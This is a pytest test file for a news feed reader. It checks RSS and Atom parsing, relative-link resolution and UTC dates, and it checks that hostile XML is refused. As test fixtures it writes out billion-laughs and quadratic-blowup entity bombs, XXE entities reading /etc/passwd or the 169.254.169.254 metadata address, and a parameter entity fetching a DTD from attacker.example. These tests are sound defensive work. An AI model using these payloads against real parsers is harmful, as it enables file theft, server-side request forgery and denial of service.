"""The feed reader: RSS and Atom items, relative links, dates, and hostile XML that must be refused or read
safely (entity bombs, external entities, bytes that look like a path or a URL)."""
import time

import pytest

from dateline.errors import InputError
from dateline.feeds import FeedItem, check_entities, parse_feed

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Example wire</title><link>https://news.example/</link>
<item><title>Talks resume &amp; stall</title><link>/world/talks.html</link>
  <pubDate>Tue, 03 Mar 2026 19:30:00 +0900</pubDate><guid isPermaLink="false">wire-1</guid></item>
<item><title>Not a page</title><link>javascript:alert(1)</link></item>
<item><title>Mail</title><link>mailto:desk@news.example</link></item>
<item><title>Again</title><link>https://news.example/world/talks.html</link></item>
<item><title>Guid only</title><guid isPermaLink="true">https://news.example/world/guid.html</guid></item>
<item><title>  Spaced
   title </title><link>https://other.example/a</link></item>
</channel></rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom wire</title><id>urn:feed</id>
<entry><title>Storm hits coast</title><id>urn:e1</id><updated>2026-01-05T08:00:00Z</updated>
  <link rel="alternate" href="https://news.example/storm"/><link rel="enclosure" href="https://news.example/s.jpg"/></entry>
<entry><title>No link</title><id>urn:e2</id></entry>
</feed>"""


def test_rss_items_in_order_with_resolved_links_and_utc_dates():
    items = parse_feed(RSS, "https://news.example/rss.xml")
    assert [i.url for i in items] == ["https://news.example/world/talks.html", "https://news.example/world/guid.html",
                                      "https://other.example/a"]
    first = items[0]
    assert first.title == "Talks resume & stall" and first.published == "2026-03-03T10:30:00+00:00"
    assert items[2].title == "Spaced title"


def test_atom_alternate_link_and_date():
    assert parse_feed(ATOM, "<test>") == [FeedItem("https://news.example/storm", "Storm hits coast",
                                                   "2026-01-05T08:00:00+00:00", "urn:e1")]


def test_relative_links_are_dropped_without_an_http_source():
    items = parse_feed(RSS, "feeds.yaml")
    assert [i.title for i in items] == ["Again", "Guid only", "Spaced title"]


def test_broken_xml_is_read_leniently():
    broken = RSS.replace(b"</channel></rss>", b"<item><title>Unclosed &nbsp; <b>bold</title>")
    assert len(parse_feed(broken, "https://news.example/rss.xml")) == 3


def test_latin1_feed_declared_as_such():
    data = '<?xml version="1.0" encoding="iso-8859-1"?><rss version="2.0"><channel><item><title>Café talks</title>' \
           '<link>https://news.example/c</link></item></channel></rss>'.encode("latin-1")
    assert parse_feed(data, "<test>")[0].title == "Café talks"


@pytest.mark.parametrize("data", [b"", b"hello world", b"<html><body><p>A page</p></body></html>", b"\x00\xff" * 50,
                                  b"/etc/passwd", b"http://169.254.169.254/latest/meta-data/", b"file:///etc/passwd"])
def test_non_feeds_are_input_errors(data):
    with pytest.raises(InputError) as info:
        parse_feed(data, "<test>")
    assert "not an RSS or Atom feed" in str(info.value)


def test_bytes_naming_a_local_feed_file_are_not_opened(tmp_path):
    """feedparser opens a path it is given; the reader must hand it a stream."""
    feed_file = tmp_path / "secret.xml"
    feed_file.write_bytes(ATOM)
    with pytest.raises(InputError):
        parse_feed(str(feed_file).encode(), "<test>")


def test_str_is_refused():
    with pytest.raises(InputError):
        parse_feed(RSS.decode(), "<test>")


def _with_doctype(subset: bytes, body: bytes = b"&a;") -> bytes:
    return (b'<?xml version="1.0"?><!DOCTYPE rss [' + subset + b']><rss version="2.0"><channel><item><title>'
            + body + b"</title><link>https://news.example/x</link></item></channel></rss>")


LAUGHS = b'<!ENTITY a0 "lol">' + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))


@pytest.mark.parametrize("subset, body", [
    (LAUGHS, b"&a9;"),                                                  # billion laughs
    (b'<!ENTITY a "' + b"x" * 100_000 + b'">', b"&a;" * 100_000),       # quadratic blowup
    (b'<!ENTITY a SYSTEM "file:///etc/passwd">', b"&a;"),                # external entity (XXE)
    (b'<!ENTITY a PUBLIC "-//x//y" "http://169.254.169.254/">', b"&a;"),
    (b'<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;', b"x"),  # parameter entity
    (b"".join(b'<!ENTITY e%d "x">' % n for n in range(100)), b"x"),     # too many declarations
])
def test_hostile_entity_declarations_are_refused_fast(subset, body):
    start = time.perf_counter()
    with pytest.raises(InputError) as info:
        parse_feed(_with_doctype(subset, body), "<test>")
    assert "unsafe" in str(info.value) and time.perf_counter() - start < 1.0


def test_small_character_entities_are_allowed():
    items = parse_feed(_with_doctype(b'<!ENTITY nbsp "&#160;"><!ENTITY co "Example Co">', b"A&nbsp;B &co;"), "<t>")
    assert items[0].url == "https://news.example/x" and "Example Co" in items[0].title


def test_entities_after_the_root_element_do_not_count():
    check_entities(b'<rss><channel><title>&lt;!ENTITY a SYSTEM "x"&gt; <![CDATA[<!ENTITY b SYSTEM "y">]]></title>'
                   b'</channel></rss>', "<t>")


def test_oversized_feed_is_refused(monkeypatch):
    monkeypatch.setenv("DATELINE_MAX_BYTES", "1000")
    with pytest.raises(InputError) as info:
        parse_feed(RSS + b" " * 2000, "<test>")
    assert "over the limit" in str(info.value)
